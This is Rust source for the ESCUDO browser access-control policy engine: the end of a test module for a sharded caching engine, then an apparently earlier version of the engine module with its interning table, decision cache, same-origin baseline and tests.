        assert_eq!(stats.cache_hits, 15);
        assert_eq!(stats.cache_misses, 15);
        assert!(stats.hit_rate() > 0.49 && stats.hit_rate() < 0.51);
    }

    #[test]
    fn decide_many_matches_individual_decides() {
        let engine = EscudoEngine::new();
        let p1 = script(1);
        let p3 = script(3);
        let foreign = PrincipalContext::new(PrincipalKind::Script, other_site(), Ring::new(0));
        let object = dom(2, Acl::uniform(Ring::new(1)));
        let batch: Vec<(&PrincipalContext, &ObjectContext, Operation)> = vec![
            (&p1, &object, Operation::Read),
            (&p3, &object, Operation::Write),
            (&foreign, &object, Operation::Read),
            (&p1, &object, Operation::Read), // repeat → served from cache
        ];
        let results = engine.decide_many(&batch);
        for ((p, o, op), got) in batch.iter().zip(&results) {
            assert_eq!(*got, decide(PolicyMode::Escudo, p, o, *op));
        }
        assert_eq!(engine.stats().cache_hits, 1);
    }

    #[test]
    fn zero_capacity_disables_memoization() {
        let engine = EscudoEngine::with_cache_capacity(0);
        let object = dom(1, Acl::uniform(Ring::new(1)));
        engine.decide(&script(1), &object, Operation::Read);
        engine.decide(&script(1), &object, Operation::Read);
        let stats = engine.stats();
        assert_eq!(stats.cache_hits, 0);
        assert_eq!(stats.cache_misses, 2);
    }

    #[test]
    fn bounded_cache_clears_instead_of_growing() {
        let engine = EscudoEngine::with_cache_capacity(8);
        let object = dom(3, Acl::uniform(Ring::new(3)));
        // 20 distinct principals → more keys than capacity; every decision stays correct.
        for ring in 0u16..20 {
            let p = script(ring);
            let expected = decide(PolicyMode::Escudo, &p, &object, Operation::Read);
            assert_eq!(engine.decide(&p, &object, Operation::Read), expected);
        }
        // And cache hits still happen for re-checks after the clears.
        let before = engine.stats().cache_hits;
        engine.decide(&script(19), &object, Operation::Read);
        assert_eq!(engine.stats().cache_hits, before + 1);
    }

    #[test]
    fn clear_cache_forces_recomputation_but_not_wrong_answers() {
        let engine = EscudoEngine::new();
        let object = dom(2, Acl::uniform(Ring::new(2)));
        let expected = decide(PolicyMode::Escudo, &script(2), &object, Operation::Write);
        assert_eq!(
            engine.decide(&script(2), &object, Operation::Write),
            expected
        );
        engine.clear_cache();
        assert_eq!(
            engine.decide(&script(2), &object, Operation::Write),
            expected
        );
        assert_eq!(engine.stats().cache_hits, 0);
    }

    #[test]
    fn same_origin_engine_is_the_sop_baseline() {
        let engine = SameOriginEngine::new();
        let object = dom(0, Acl::ring_zero_only());
        // Ring is irrelevant under the SOP…
        assert!(engine
            .decide(&script(u16::MAX), &object, Operation::Write)
            .is_allowed());
        // …but a cross-origin principal is still denied.
        let foreign = PrincipalContext::new(PrincipalKind::Script, other_site(), Ring::new(0));
        assert!(engine
            .decide(&foreign, &object, Operation::Read)
            .is_denied());
        assert_eq!(engine.mode(), PolicyMode::SameOriginOnly);
        assert_eq!(engine.stats().decisions, 2);
        assert_eq!(engine.stats().cache_hits, 0);
    }

    #[test]
    fn factory_picks_the_engine_by_mode() {
        assert_eq!(
            engine_for_mode(PolicyMode::Escudo).mode(),
            PolicyMode::Escudo
        );
        assert_eq!(
            engine_for_mode(PolicyMode::SameOriginOnly).mode(),
            PolicyMode::SameOriginOnly
        );
    }

    #[test]
    fn lookup_is_the_readonly_face_of_interning() {
        let mut table = ContextTable::new();
        let p = script(2);
        let o = dom(1, Acl::uniform(Ring::new(1)));
        assert_eq!(table.lookup_principal(&p), None);
        assert_eq!(table.lookup_object(&o), None);
        let pid = table.intern_principal(&p);
        let oid = table.intern_object(&o);
        assert_eq!(table.lookup_principal(&p), Some(pid));
        assert_eq!(table.lookup_object(&o), Some(oid));
        // A context differing only in its label resolves to the same id.
        assert_eq!(
            table.lookup_principal(&script(2).with_label("renamed")),
            Some(pid)
        );
    }

    #[test]
    fn context_interner_matches_the_reference_table() {
        // Same insertion order → byte-identical ids: the lock-free interner is a
        // drop-in replacement for the single-threaded reference table.
        let mut table = ContextTable::new();
        let interner = ContextInterner::new();
        let objects: Vec<ObjectContext> = (0u16..6)
            .map(|ring| dom(ring % 4, Acl::uniform(Ring::new(ring % 3))))
            .collect();
        for ring in 0u16..8 {
            let p = script(ring % 5); // repeats after 5: warm re-interns
            assert_eq!(
                table.intern_principal(&p).index(),
                interner.intern_principal(&p).index()
            );
        }
        for object in &objects {
            assert_eq!(
                table.intern_object(object).index(),
                interner.intern_object(object).index()
            );
        }
        assert_eq!(table.principal_count(), interner.principal_count());
        assert_eq!(table.object_count(), interner.object_count());
        // Lookup is the readonly face here too, label-insensitive included.
        let relabeled = script(2).with_label("renamed");
        assert_eq!(
            interner.lookup_principal(&relabeled),
            Some(interner.intern_principal(&script(2)))
        );
        assert_eq!(
            interner.lookup_object(&dom(19, Acl::uniform(Ring::new(1)))),
            None
        );
        // Single-threaded interning never loses a claim.
        assert_eq!(interner.cas_retries(), 0);
        assert!(interner.max_bucket_depth() >= 1);
    }

    #[test]
    fn engine_stats_surface_interner_occupancy() {
        let engine = EscudoEngine::new();
        let object = dom(1, Acl::uniform(Ring::new(1)));
        engine.decide(&script(1), &object, Operation::Read);
        engine.decide(&script(2), &object, Operation::Read);
        let stats = engine.stats();
        assert_eq!(stats.interned_principals, 2);
        assert_eq!(stats.interned_objects, 1);
        assert_eq!(stats.interner_cas_retries, 0);
        assert!(stats.interner_max_bucket_depth >= 1);
    }

    #[test]
    fn shard_count_is_a_power_of_two_and_at_least_one() {
        assert_eq!(EscudoEngine::with_shards(0, 64).shard_count(), 1);
        assert_eq!(EscudoEngine::with_shards(1, 64).shard_count(), 1);
        assert_eq!(EscudoEngine::with_shards(5, 64).shard_count(), 8);
        assert_eq!(EscudoEngine::with_shards(16, 64).shard_count(), 16);
        // The default adapts to the machine: a power of two in [4, 64].
        let default = default_shard_count();
        assert_eq!(EscudoEngine::new().shard_count(), default);
        assert!(default.is_power_of_two());
        assert!((4..=64).contains(&default));
        // Capacity is divided across shards; zero disables memoization everywhere.
        assert_eq!(EscudoEngine::with_shards(4, 64).shard_capacity(), 16);
        assert_eq!(EscudoEngine::with_shards(4, 0).shard_capacity(), 0);
    }

    #[test]
    fn per_shard_stats_sum_to_the_aggregates() {
        let engine = EscudoEngine::with_shards(4, 1024);
        let object = dom(2, Acl::uniform(Ring::new(1)));
        for ring in 0u16..12 {
            for op in Operation::ALL {
                engine.decide(&script(ring), &object, op);
                engine.decide(&script(ring), &object, op);
            }
        }
        let stats = engine.stats();
        assert_eq!(stats.shards.len(), 4);
        assert_eq!(
            stats.shards.iter().map(|s| s.hits).sum::<u64>(),
            stats.cache_hits
        );
        assert_eq!(
            stats.shards.iter().map(|s| s.misses).sum::<u64>(),
            stats.cache_misses
        );
        assert_eq!(
            stats.shards.iter().map(|s| s.evictions).sum::<u64>(),
            stats.evictions
        );
        assert_eq!(stats.decisions, stats.cache_hits + stats.cache_misses);
        assert_eq!(
            stats.shards.iter().map(|s| s.entries).sum::<u64>(),
            stats.cache_misses,
            "every distinct decision should be resident (no evictions at this size)"
        );
        // The key space is spread over more than one stripe.
        assert!(
            stats.shards.iter().filter(|s| s.entries > 0).count() > 1,
            "decisions should not all collapse onto one shard: {stats:?}"
        );
    }

    #[test]
    fn a_full_shard_evicts_only_its_own_slice() {
        // 2 shards × 8 entries each. A witness decision parked in one shard must
        // survive the other shard overflowing and being cleared.
        let engine = EscudoEngine::with_shards(2, 16);
        let object = dom(3, Acl::uniform(Ring::new(3)));
        let oid = engine.interner.intern_object(&object);
        let lands_in_shard0 = |ring: u16| {
            let pid = engine.interner.intern_principal(&script(ring));
            std::ptr::eq(
                engine.shard_for(pid, oid, Operation::Read),
                &engine.shards[0],
            )
        };
        let witness = (0u16..200)
            .find(|ring| lands_in_shard0(*ring))
            .expect("some key hashes to shard 0");
        engine.decide(&script(witness), &object, Operation::Read);

        // Overflow the *other* shard with distinct keys until it has evicted.
        let mut filled = 0;
        for ring in 200u16..2000 {
            if !lands_in_shard0(ring) {
                let p = script(ring);
                let expected = decide(PolicyMode::Escudo, &p, &object, Operation::Read);
                assert_eq!(engine.decide(&p, &object, Operation::Read), expected);
                filled += 1;
                if filled == 20 {
                    break;
                }
            }
        }
        let stats = engine.stats();
        assert!(stats.evictions > 0, "20 keys into 8 slots must evict");
        // Eviction-skew rebalancing may have grown the hot shard's bound, but
        // every shard must respect its *current* bound and the total budget is
        // conserved exactly.
        let capacities = engine.shard_capacities();
        assert_eq!(
            capacities.iter().sum::<usize>(),
            engine.shard_capacity() * engine.shard_count()
        );
        for (shard, capacity) in stats.shards.iter().zip(&capacities) {
            assert!(
                shard.entries <= *capacity as u64,
                "shard exceeded its bound {capacity}: {shard:?}"
            );
        }
        // The witness sat in the untouched shard: still a cache hit.
        let hits_before = engine.stats().cache_hits;
        engine.decide(&script(witness), &object, Operation::Read);
        assert_eq!(
            engine.stats().cache_hits,
            hits_before + 1,
            "eviction in one shard must not clear the other"
        );
    }

    #[test]
    fn hot_shards_borrow_capacity_from_cold_ones() {
        // 2 shards × 8 entries. Every key is steered into one shard, which
        // keeps overflowing; the rebalancer should shift budget toward it.
        let engine = EscudoEngine::with_shards(2, 16);
        let base = engine.shard_capacity();
        assert_eq!(engine.shard_capacities(), vec![base, base]);

        let object = dom(3, Acl::uniform(Ring::new(3)));
        let oid = engine.interner.intern_object(&object);
        let hot_index = {
            let pid = engine.interner.intern_principal(&script(0));
            usize::from(!std::ptr::eq(
                engine.shard_for(pid, oid, Operation::Read),
                &engine.shards[0],
            ))
        };
        let mut driven = 0u32;
        for ring in 0u16..4000 {
            let pid = engine.interner.intern_principal(&script(ring));
            if !std::ptr::eq(
                engine.shard_for(pid, oid, Operation::Read),
                &engine.shards[hot_index],
            ) {
                continue;
            }
            let p = script(ring);
            let expected = decide(PolicyMode::Escudo, &p, &object, Operation::Read);
            assert_eq!(engine.decide(&p, &object, Operation::Read), expected);
            driven += 1;
            if driven == 100 {
                break;
            }
        }
        assert!(engine.stats().evictions > 0, "100 keys into 8 slots evict");

        let capacities = engine.shard_capacities();
        let cold_index = 1 - hot_index;
        assert!(
            capacities[hot_index] > base,
            "hot shard should have grown: {capacities:?}"
        );
        assert!(
            capacities[cold_index] < base,
            "cold shard should have shrunk: {capacities:?}"
        );
        // Hard invariants: exact total, and the cold shard keeps its floor.
        assert_eq!(capacities.iter().sum::<usize>(), base * 2);
        assert!(capacities[cold_index] >= (base / 2).max(1));
    }

    #[test]
    fn engine_is_shareable_across_threads() {
        let engine: Arc<dyn PolicyEngine> = Arc::new(EscudoEngine::new());
        let mut handles = Vec::new();
        for ring in 0u16..4 {
            let engine = Arc::clone(&engine);
            handles.push(std::thread::spawn(move || {
                let object = ObjectContext::new(
                    ObjectKind::DomElement,
                    Origin::new("http", "app.example", 80),
                    Ring::new(2),
                )
                .with_acl(Acl::uniform(Ring::new(1)));
                let p = PrincipalContext::new(
                    PrincipalKind::Script,
                    Origin::new("http", "app.example", 80),
                    Ring::new(ring),
                );
                for _ in 0..100 {
                    let got = engine.decide(&p, &object, Operation::Read);
                    assert_eq!(
                        got,
                        decide(PolicyMode::Escudo, &p, &object, Operation::Read)
                    );
                }
            }));
        }
        for handle in handles {
            handle.join().expect("thread");
        }
        assert_eq!(engine.stats().decisions, 400);
    }
}
