//! The pluggable policy engine: one decision core shared by every enforcement point.
//!
//! The paper's prototype spreads the ESCUDO Reference Monitor "over several places
//! because the places to embed the checks is specific to the object type". That is
//! fine for *enforcement* — the checks must live where the objects live — but the
//! *decision procedure* itself should exist exactly once, behind one interface, so it
//! can be shared, swapped and accelerated independently of the enforcement points
//! (WebSpec argues for a single machine-checkable decision core; WebPol shows
//! fine-grained policies only scale when evaluation is factored out of enforcement).
//!
//! This module provides that factoring:
//!
//! * [`PolicyEngine`] — the trait every decision core implements: [`decide`]
//!   (one mediation) and [`decide_many`] (batch mediation, one lock acquisition),
//! * [`EscudoEngine`] — the production engine: it **interns** principal and object
//!   contexts into small integer ids ([`PrincipalId`], [`ObjectId`]) via a
//!   [`ContextTable`], and **memoizes** decisions in a hash cache keyed on
//!   `(principal_id, object_id, operation)` so hot DOM/event paths skip the
//!   origin/ring/ACL recomputation entirely,
//! * [`SameOriginEngine`] — the legacy same-origin baseline behind the same trait,
//! * [`engine_for_mode`] — the factory the browser uses to pick an engine.
//!
//! Both engines take `&self` and are `Send + Sync`, so one engine can be shared by
//! every page of a browsing session (or every session of a multi-tenant server) via
//! `Arc<dyn PolicyEngine>`.
//!
//! [`decide`]: PolicyEngine::decide
//! [`decide_many`]: PolicyEngine::decide_many
//!
//! # Example
//!
//! ```
//! use std::sync::Arc;
//! use escudo_core::engine::{engine_for_mode, EscudoEngine, PolicyEngine};
//! use escudo_core::context::{ObjectContext, ObjectKind, PrincipalContext, PrincipalKind};
//! use escudo_core::{Acl, Operation, Origin, PolicyMode, Ring};
//!
//! let engine: Arc<dyn PolicyEngine> = engine_for_mode(PolicyMode::Escudo);
//! let origin = Origin::new("http", "blog.example", 80);
//! let script = PrincipalContext::new(PrincipalKind::Script, origin.clone(), Ring::new(3));
//! let post = ObjectContext::new(ObjectKind::DomElement, origin, Ring::new(1))
//!     .with_acl(Acl::uniform(Ring::new(1)));
//!
//! // First check computes the three rules; the second is served from the cache.
//! assert!(engine.decide(&script, &post, Operation::Write).is_denied());
//! assert!(engine.decide(&script, &post, Operation::Write).is_denied());
//! ```

use std::collections::HashMap;
use std::fmt;
use std::hash::{BuildHasherDefault, Hasher};
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex};

use crate::acl::Acl;
use crate::context::{ObjectContext, PrincipalContext, PrincipalKind};
use crate::operation::Operation;
use crate::origin::Origin;
use crate::policy::{decide, Decision, PolicyMode};
use crate::ring::Ring;

/// A fast non-cryptographic hasher (the rustc `FxHash` multiply-xor scheme) for the
/// interner and decision-cache maps. Decision keys are attacker-influenced only
/// through page markup the application already trusts itself to serve, and the maps
/// are bounded, so DoS-grade collision resistance (SipHash) buys nothing here —
/// while string hashing sits directly on the mediation hot path.
#[derive(Debug, Default, Clone, Copy)]
struct FxHasher {
    hash: u64,
}

impl FxHasher {
    const SEED: u64 = 0x51_7c_c1_b7_27_22_0a_95;

    #[inline]
    fn add_to_hash(&mut self, word: u64) {
        self.hash = (self.hash.rotate_left(5) ^ word).wrapping_mul(Self::SEED);
    }
}

impl Hasher for FxHasher {
    #[inline]
    fn write(&mut self, mut bytes: &[u8]) {
        while let Some(chunk) = bytes.first_chunk::<8>() {
            self.add_to_hash(u64::from_le_bytes(*chunk));
            bytes = &bytes[8..];
        }
        if let Some(chunk) = bytes.first_chunk::<4>() {
            self.add_to_hash(u64::from(u32::from_le_bytes(*chunk)));
            bytes = &bytes[4..];
        }
        for &byte in bytes {
            self.add_to_hash(u64::from(byte));
        }
    }

    #[inline]
    fn write_u8(&mut self, i: u8) {
        self.add_to_hash(u64::from(i));
    }

    #[inline]
    fn write_u16(&mut self, i: u16) {
        self.add_to_hash(u64::from(i));
    }

    #[inline]
    fn write_u32(&mut self, i: u32) {
        self.add_to_hash(u64::from(i));
    }

    #[inline]
    fn write_u64(&mut self, i: u64) {
        self.add_to_hash(i);
    }

    #[inline]
    fn write_usize(&mut self, i: usize) {
        self.add_to_hash(i as u64);
    }

    #[inline]
    fn finish(&self) -> u64 {
        self.hash
    }
}

type FxHashMap<K, V> = HashMap<K, V, BuildHasherDefault<FxHasher>>;

/// Interned id of a principal's decision-relevant context.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct PrincipalId(u32);

impl PrincipalId {
    /// The raw interned index.
    #[must_use]
    pub const fn index(self) -> u32 {
        self.0
    }
}

/// Interned id of an object's decision-relevant context.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct ObjectId(u32);

impl ObjectId {
    /// The raw interned index.
    #[must_use]
    pub const fn index(self) -> u32 {
        self.0
    }
}

/// The decision-relevant part of a [`PrincipalContext`].
///
/// The decision procedure never looks at the free-form `label`, and of the `kind` it
/// only distinguishes the browser chrome (which is exempt from mediation). Dropping
/// the irrelevant fields here is what makes interning effective: thousands of
/// distinctly-labelled principals collapse onto a handful of ids.
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
struct PrincipalKey {
    is_browser: bool,
    origin: Origin,
    ring: Ring,
}

impl PrincipalKey {
    fn of(principal: &PrincipalContext) -> Self {
        PrincipalKey {
            is_browser: principal.kind == PrincipalKind::Browser,
            origin: principal.origin.clone(),
            ring: principal.ring,
        }
    }

    /// Field-wise comparison against a borrowed context — the alloc-free probe.
    fn matches(&self, principal: &PrincipalContext) -> bool {
        self.is_browser == (principal.kind == PrincipalKind::Browser)
            && self.ring == principal.ring
            && self.origin == principal.origin
    }
}

/// Hashes the decision-relevant fields of a principal context without building a
/// [`PrincipalKey`] (no clones on the probe path).
fn hash_principal(principal: &PrincipalContext) -> u64 {
    let mut hasher = FxHasher::default();
    hasher.write_u8(u8::from(principal.kind == PrincipalKind::Browser));
    hasher.write(principal.origin.scheme().as_bytes());
    hasher.write(principal.origin.host().as_bytes());
    hasher.write_u16(principal.origin.port());
    hasher.write_u16(principal.ring.level());
    hasher.finish()
}

/// The decision-relevant part of an [`ObjectContext`] (origin, ring, ACL — the
/// object's kind and label never influence the three rules).
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
struct ObjectKey {
    origin: Origin,
    ring: Ring,
    acl: Acl,
}

impl ObjectKey {
    fn of(object: &ObjectContext) -> Self {
        ObjectKey {
            origin: object.origin.clone(),
            ring: object.ring,
            acl: object.acl,
        }
    }

    /// Field-wise comparison against a borrowed context — the alloc-free probe.
    fn matches(&self, object: &ObjectContext) -> bool {
        self.ring == object.ring && self.acl == object.acl && self.origin == object.origin
    }
}

/// Hashes the decision-relevant fields of an object context without building an
/// [`ObjectKey`] (no clones on the probe path).
fn hash_object(object: &ObjectContext) -> u64 {
    let mut hasher = FxHasher::default();
    hasher.write(object.origin.scheme().as_bytes());
    hasher.write(object.origin.host().as_bytes());
    hasher.write_u16(object.origin.port());
    hasher.write_u16(object.ring.level());
    hasher.write_u16(object.acl.read.level());
    hasher.write_u16(object.acl.write.level());
    hasher.write_u16(object.acl.use_.level());
    hasher.finish()
}

/// Interning table mapping security contexts onto dense small-integer ids.
///
/// Two contexts receive the same id exactly when the decision procedure cannot
/// distinguish them — same origin, same ring, same ACL (and, for principals, the same
/// browser-chrome exemption). Ids are dense (`0, 1, 2, …`), so downstream layers can
/// index arrays with them.
#[derive(Debug, Default)]
pub struct ContextTable {
    // Keyed by the 64-bit fx hash of the borrowed context fields; the bucket holds the
    // owned keys for exact comparison. Probing therefore never clones a context —
    // only a genuinely new context pays the key allocation.
    principals: FxHashMap<u64, Vec<(PrincipalKey, PrincipalId)>>,
    objects: FxHashMap<u64, Vec<(ObjectKey, ObjectId)>>,
    principal_count: usize,
    object_count: usize,
}

impl ContextTable {
    /// Creates an empty table.
    #[must_use]
    pub fn new() -> Self {
        ContextTable::default()
    }

    /// Interns a principal context, returning its stable id.
    pub fn intern_principal(&mut self, principal: &PrincipalContext) -> PrincipalId {
        let bucket = self
            .principals
            .entry(hash_principal(principal))
            .or_default();
        if let Some((_, id)) = bucket.iter().find(|(key, _)| key.matches(principal)) {
            return *id;
        }
        let id = PrincipalId(u32::try_from(self.principal_count).expect("≤ u32::MAX principals"));
        self.principal_count += 1;
        bucket.push((PrincipalKey::of(principal), id));
        id
    }

    /// Interns an object context, returning its stable id.
    pub fn intern_object(&mut self, object: &ObjectContext) -> ObjectId {
        let bucket = self.objects.entry(hash_object(object)).or_default();
        if let Some((_, id)) = bucket.iter().find(|(key, _)| key.matches(object)) {
            return *id;
        }
        let id = ObjectId(u32::try_from(self.object_count).expect("≤ u32::MAX objects"));
        self.object_count += 1;
        bucket.push((ObjectKey::of(object), id));
        id
    }

    /// Number of distinct principal contexts interned so far.
    #[must_use]
    pub fn principal_count(&self) -> usize {
        self.principal_count
    }

    /// Number of distinct object contexts interned so far.
    #[must_use]
    pub fn object_count(&self) -> usize {
        self.object_count
    }
}

/// Counters describing how an engine's cache is performing.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct EngineStats {
    /// Total decisions requested.
    pub decisions: u64,
    /// Decisions served from the memoization cache.
    pub cache_hits: u64,
    /// Decisions that had to run the full origin/ring/ACL procedure.
    pub cache_misses: u64,
    /// Distinct principal contexts interned.
    pub interned_principals: u64,
    /// Distinct object contexts interned.
    pub interned_objects: u64,
}

impl EngineStats {
    /// Cache hit rate in `[0, 1]` (0 when no decisions were made).
    #[must_use]
    pub fn hit_rate(&self) -> f64 {
        if self.decisions == 0 {
            0.0
        } else {
            self.cache_hits as f64 / self.decisions as f64
        }
    }
}

/// The single decision interface every enforcement point goes through.
///
/// Implementations must be cheap to share: `decide` takes `&self` and the trait
/// requires `Send + Sync`, so one engine instance can serve every page, thread and
/// tenant of a deployment behind an `Arc<dyn PolicyEngine>`.
pub trait PolicyEngine: Send + Sync + fmt::Debug {
    /// The policy mode this engine enforces.
    fn mode(&self) -> PolicyMode;

    /// Decides whether `principal` may perform `op` on `object`.
    ///
    /// Must return exactly what [`crate::policy::decide`] returns for this engine's
    /// mode — engines may cache or precompute, never diverge.
    fn decide(
        &self,
        principal: &PrincipalContext,
        object: &ObjectContext,
        op: Operation,
    ) -> Decision;

    /// Batch mediation: decides a slice of checks in order.
    ///
    /// Engines with shared internal state can acquire their locks once for the whole
    /// batch, which is what makes bulk paths (cookie attachment across a jar, event
    /// floods) cheaper than `n` individual `decide` calls.
    fn decide_many(
        &self,
        checks: &[(&PrincipalContext, &ObjectContext, Operation)],
    ) -> Vec<Decision> {
        checks
            .iter()
            .map(|(p, o, op)| self.decide(p, o, *op))
            .collect()
    }

    /// Cache/interning statistics. Engines without a cache report zeros besides
    /// `decisions`.
    fn stats(&self) -> EngineStats;
}

/// Interning + memoization state of an [`EscudoEngine`], behind one mutex so a
/// decision costs at most one lock acquisition.
#[derive(Debug, Default)]
struct EscudoEngineInner {
    table: ContextTable,
    cache: FxHashMap<(PrincipalId, ObjectId, Operation), Decision>,
}

/// The production ESCUDO engine: context interning plus a shared decision cache.
///
/// The three MAC rules are pure functions of `(principal context, object context,
/// operation)`, so their outcome can be memoized. The engine interns both contexts
/// into small ids and keys the cache on `(principal_id, object_id, op)`; repeated
/// checks on hot DOM and event-dispatch paths are then a hash probe instead of an
/// origin-string comparison cascade.
///
/// The cache is bounded ([`EscudoEngine::with_cache_capacity`]); when full it is
/// cleared wholesale (decisions are pure, so eviction can never produce a wrong
/// answer — only a recomputation).
#[derive(Debug)]
pub struct EscudoEngine {
    inner: Mutex<EscudoEngineInner>,
    cache_capacity: usize,
    decisions: AtomicU64,
    hits: AtomicU64,
}

/// Default bound on the number of memoized decisions.
pub const DEFAULT_CACHE_CAPACITY: usize = 64 * 1024;

impl Default for EscudoEngine {
    fn default() -> Self {
        EscudoEngine::new()
    }
}

impl EscudoEngine {
    /// Creates an engine with the default cache capacity.
    #[must_use]
    pub fn new() -> Self {
        EscudoEngine::with_cache_capacity(DEFAULT_CACHE_CAPACITY)
    }

    /// Creates an engine bounding the decision cache to `capacity` entries.
    ///
    /// A capacity of `0` disables memoization entirely (every decision recomputes the
    /// rules — the configuration the cold-path benchmarks measure).
    #[must_use]
    pub fn with_cache_capacity(capacity: usize) -> Self {
        EscudoEngine {
            inner: Mutex::new(EscudoEngineInner::default()),
            cache_capacity: capacity,
            decisions: AtomicU64::new(0),
            hits: AtomicU64::new(0),
        }
    }

    /// Drops every memoized decision (interned ids survive — they are still valid).
    pub fn clear_cache(&self) {
        self.inner.lock().expect("engine lock").cache.clear();
    }

    /// Decides with the lock already held — shared by `decide` and `decide_many`.
    fn decide_locked(
        inner: &mut EscudoEngineInner,
        cache_capacity: usize,
        principal: &PrincipalContext,
        object: &ObjectContext,
        op: Operation,
    ) -> (Decision, bool) {
        let pid = inner.table.intern_principal(principal);
        let oid = inner.table.intern_object(object);
        if let Some(cached) = inner.cache.get(&(pid, oid, op)) {
            return (cached.clone(), true);
        }
        let decision = decide(PolicyMode::Escudo, principal, object, op);
        if cache_capacity > 0 {
            if inner.cache.len() >= cache_capacity {
                // Decisions are pure: a wholesale clear is always safe and keeps the
                // eviction policy trivial (no LRU bookkeeping on the hot path).
                inner.cache.clear();
            }
            inner.cache.insert((pid, oid, op), decision.clone());
        }
        (decision, false)
    }
}

impl PolicyEngine for EscudoEngine {
    fn mode(&self) -> PolicyMode {
        PolicyMode::Escudo
    }

    fn decide(
        &self,
        principal: &PrincipalContext,
        object: &ObjectContext,
        op: Operation,
    ) -> Decision {
        let (decision, hit) = {
            let mut inner = self.inner.lock().expect("engine lock");
            Self::decide_locked(&mut inner, self.cache_capacity, principal, object, op)
        };
        self.decisions.fetch_add(1, Ordering::Relaxed);
        if hit {
            self.hits.fetch_add(1, Ordering::Relaxed);
        }
        decision
    }

    fn decide_many(
        &self,
        checks: &[(&PrincipalContext, &ObjectContext, Operation)],
    ) -> Vec<Decision> {
        let mut hits = 0u64;
        let decisions = {
            let mut inner = self.inner.lock().expect("engine lock");
            checks
                .iter()
                .map(|(p, o, op)| {
                    let (decision, hit) =
                        Self::decide_locked(&mut inner, self.cache_capacity, p, o, *op);
                    hits += u64::from(hit);
                    decision
                })
                .collect()
        };
        self.decisions
            .fetch_add(checks.len() as u64, Ordering::Relaxed);
        self.hits.fetch_add(hits, Ordering::Relaxed);
        decisions
    }

    fn stats(&self) -> EngineStats {
        let (principals, objects) = {
            let inner = self.inner.lock().expect("engine lock");
            (
                inner.table.principal_count() as u64,
                inner.table.object_count() as u64,
            )
        };
        let decisions = self.decisions.load(Ordering::Relaxed);
        let hits = self.hits.load(Ordering::Relaxed);
        EngineStats {
            decisions,
            cache_hits: hits,
            // The two relaxed loads are not a snapshot; saturate rather than wrap if a
            // concurrent decide lands between them.
            cache_misses: decisions.saturating_sub(hits),
            interned_principals: principals,
            interned_objects: objects,
        }
    }
}

/// The legacy same-origin baseline behind the [`PolicyEngine`] trait.
///
/// The origin rule is a handful of string comparisons, so this engine neither interns
/// nor caches — it exists so the "without ESCUDO" configuration runs through exactly
/// the same enforcement plumbing as the full model.
#[derive(Debug, Default)]
pub struct SameOriginEngine {
    decisions: AtomicU64,
}

impl SameOriginEngine {
    /// Creates the baseline engine.
    #[must_use]
    pub fn new() -> Self {
        SameOriginEngine::default()
    }
}

impl PolicyEngine for SameOriginEngine {
    fn mode(&self) -> PolicyMode {
        PolicyMode::SameOriginOnly
    }

    fn decide(
        &self,
        principal: &PrincipalContext,
        object: &ObjectContext,
        op: Operation,
    ) -> Decision {
        self.decisions.fetch_add(1, Ordering::Relaxed);
        decide(PolicyMode::SameOriginOnly, principal, object, op)
    }

    fn stats(&self) -> EngineStats {
        EngineStats {
            decisions: self.decisions.load(Ordering::Relaxed),
            ..EngineStats::default()
        }
    }
}

/// The factory enforcement layers use: the full engine for [`PolicyMode::Escudo`],
/// the baseline for [`PolicyMode::SameOriginOnly`].
#[must_use]
pub fn engine_for_mode(mode: PolicyMode) -> Arc<dyn PolicyEngine> {
    match mode {
        PolicyMode::Escudo => Arc::new(EscudoEngine::new()),
        PolicyMode::SameOriginOnly => Arc::new(SameOriginEngine::new()),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::context::{ObjectKind, PrincipalKind};

    fn site() -> Origin {
        Origin::new("http", "app.example", 80)
    }

    fn other_site() -> Origin {
        Origin::new("http", "evil.example", 80)
    }

    fn script(ring: u16) -> PrincipalContext {
        PrincipalContext::new(PrincipalKind::Script, site(), Ring::new(ring))
    }

    fn dom(ring: u16, acl: Acl) -> ObjectContext {
        ObjectContext::new(ObjectKind::DomElement, site(), Ring::new(ring)).with_acl(acl)
    }

    #[test]
    fn interning_collapses_label_variants() {
        let mut table = ContextTable::new();
        let a = script(3).with_label("inline script #1");
        let b = script(3).with_label("inline script #2");
        let c = script(2);
        assert_eq!(table.intern_principal(&a), table.intern_principal(&b));
        assert_ne!(table.intern_principal(&a), table.intern_principal(&c));
        assert_eq!(table.principal_count(), 2);

        let x = dom(1, Acl::uniform(Ring::new(1))).with_label("post");
        let y = dom(1, Acl::uniform(Ring::new(1))).with_label("other post");
        let z = dom(1, Acl::uniform(Ring::new(0)));
        assert_eq!(table.intern_object(&x), table.intern_object(&y));
        assert_ne!(table.intern_object(&x), table.intern_object(&z));
        assert_eq!(table.object_count(), 2);
    }

    #[test]
    fn interning_distinguishes_browser_chrome() {
        let mut table = ContextTable::new();
        let chrome = PrincipalContext::browser(site());
        let ring0_script = script(0);
        // Same origin and ring, but only one of them enjoys the chrome exemption.
        assert_ne!(
            table.intern_principal(&chrome),
            table.intern_principal(&ring0_script)
        );
    }

    #[test]
    fn cached_decisions_match_the_free_function() {
        let engine = EscudoEngine::new();
        let object = dom(2, Acl::uniform(Ring::new(1)));
        for ring in 0u16..5 {
            for op in Operation::ALL {
                let expected = decide(PolicyMode::Escudo, &script(ring), &object, op);
                // Cold, then cached: both must be byte-identical to `decide`.
                assert_eq!(engine.decide(&script(ring), &object, op), expected);
                assert_eq!(engine.decide(&script(ring), &object, op), expected);
            }
        }
        let stats = engine.stats();
        assert_eq!(stats.decisions, 30);
        assert_eq!(stats.cache_hits, 15);
        assert_eq!(stats.cache_misses, 15);
        assert!(stats.hit_rate() > 0.49 && stats.hit_rate() < 0.51);
    }

    #[test]
    fn decide_many_matches_individual_decides() {
        let engine = EscudoEngine::new();
        let p1 = script(1);
        let p3 = script(3);
        let foreign = PrincipalContext::new(PrincipalKind::Script, other_site(), Ring::new(0));
        let object = dom(2, Acl::uniform(Ring::new(1)));
        let batch: Vec<(&PrincipalContext, &ObjectContext, Operation)> = vec![
            (&p1, &object, Operation::Read),
            (&p3, &object, Operation::Write),
